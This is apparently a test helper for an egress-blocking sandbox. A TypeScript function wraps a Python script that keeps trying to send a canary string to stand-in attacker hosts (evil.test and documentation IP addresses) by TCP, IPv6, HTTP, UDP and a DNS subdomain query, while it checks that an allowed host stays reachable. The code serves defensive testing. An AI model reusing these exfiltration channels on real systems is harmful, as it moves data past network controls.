/** A job that tries without end to get a canary out by every way, and to reach what is allowed. */

/**
 * The argv of the job. It prints `begun`, then `ok` whenever what is allowed answered, `no` when not.
 *
 * @param word the canary
 * @param seconds how long it goes on
 */
export function canaryLoop(word: string, seconds: number): string[] {
  return ["python3", "-c", source, word, String(seconds)]
}

/** What the loop needs to be allowed. */
export const loopPolicy = `mode: block\nallow: ["allowed.test:80"]\n`

const source = `
import os, socket, struct, sys, threading, time
word, end = sys.argv[1].encode(), time.time() + float(sys.argv[2])
print("begun", flush=True)
def question(name):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
    return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 1, 1)
def tcp():
    with socket.create_connection(("198.51.100.66", 4444), 1) as s:
        s.sendall(word); s.recv(9)
def six():
    with socket.create_connection(("2001:db8::66", 4444), 1) as s:
        s.sendall(word); s.recv(9)
def host():
    with socket.create_connection(("198.51.100.10", 80), 1) as s:
        s.sendall(b"GET /" + word + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(9)
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(word, ("198.51.100.66", 5555))
def name():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5); s.sendto(question(word + b".evil.test"), ("203.0.113.66", 53)); s.recv(512)
def good():
    with socket.create_connection(("allowed.test", 80), 2) as s:
        s.settimeout(2)
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
        if b"200" not in s.recv(999): raise OSError
def forever(step, pause):
    while time.time() < end:
        try: step()
        except OSError: pass
        time.sleep(pause)
for step in (tcp, six, host, udp, name):
    threading.Thread(target=forever, args=(step, 0.02), daemon=True).start()
while time.time() < end:
    try: good(); print("ok", flush=True)
    except OSError: print("no", flush=True)
    time.sleep(0.05)
`
